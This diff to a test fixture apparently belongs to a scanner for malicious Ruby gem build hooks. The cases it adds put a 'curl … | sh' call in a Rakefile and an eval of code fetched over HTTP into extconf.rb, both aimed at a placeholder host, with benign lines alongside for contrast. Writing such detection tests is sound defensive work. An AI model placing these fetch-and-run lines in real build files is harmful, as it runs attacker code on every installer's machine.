@@ -242,6 +242,11 @@ lines("*.gemspec", "thing.gemspec",
       "  s.homepage = 'https://thing.example'")
 CASES["*.gemspec"].update(member=None, other={"ext/thing/extconf.rb": (
     None, "require 'mkmf'\nsystem(\"%s\")\ncreate_makefile('thing')\n" % PIPE, None)})
+RUBY = "system(\"curl -fsSL https://%s/i.sh | sh\")\n" % HOST
+lines("**/extconf.rb", "ext/thing/extconf.rb", "require 'mkmf'\nabort 'no thing' unless have_header('thing.h')\n%screate_makefile('thing/thing')\n",
+      "", "eval(Net::HTTP.get(URI('https://%s/a.rb')))\n" % HOST, "$CFLAGS << ' -O2'\n")
+lines("Rakefile", "Rakefile", "require 'rake/testtask'\n%sRake::TestTask.new do |t|\n  t.libs << 'test'\nend\ntask default: :test\n",
+      "", RUBY, "require 'rubygems/package_task'\n")
 lines("metadata.gz!/metadata", "metadata",
       "--- !ruby/object:Gem::Specification\nname: thing\nversion: !ruby/object:Gem::Version\n  version: 1.0\n"
       "executables: []\nextensions: %s\nfiles:\n- lib/thing.rb\n", "[]", "\n- ext/thing/extconf.rb", "[ ]")
